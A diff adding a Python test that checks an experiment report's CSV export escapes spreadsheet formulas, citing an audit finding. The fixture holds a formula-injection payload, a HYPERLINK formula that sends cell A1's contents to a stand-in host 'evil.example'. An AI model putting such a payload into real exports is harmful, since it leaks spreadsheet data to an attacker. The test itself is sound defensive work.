@@ -153,3 +153,21 @@ def test_a_run_killed_mid_way_resumes_without_duplicates_and_reports_the_same(tm
     assert render(rep_a) == render(rep_b)
     attempts = stored(killed, "SELECT MAX(attempts) FROM job_units")
     assert attempts <= 2  # only the units running at the kill ran twice
+
+
+def test_the_csv_report_neutralises_formulas():
+    """Audit finding 20: the experiment report's CSV wrote method names (a bundle can bring any) as they were, so
+    ``=HYPERLINK(…)`` ran in a spreadsheet."""
+    import csv as csv_module
+    import io
+
+    from protocol.report import Report
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    fair = {"method_a": evil, "method_b": "@SUM(1)", "aspect": "requirement", "win": 1, "tie": 0, "lose": 0,
+            "adjusted_win_rate": 1.0, "adjusted_win_rate_ci": [1.0, 1.0], "n": 1, "invalid_judgments": 0,
+            "invalid_samples": 0, "samples": 2, "dropped": 0}
+    report = Report(name="x", baseline="-1+2", single=[], faireval=[fair], units={})
+    cells = [c for row in csv_module.reader(io.StringIO(render(report, "csv"))) for c in row]
+    assert "'" + evil in cells and "'@SUM(1)" in cells and evil not in cells
+    assert not [c for c in cells if c[:1] in "=+-@" and not c.lstrip("-").replace(".", "").isdigit()]
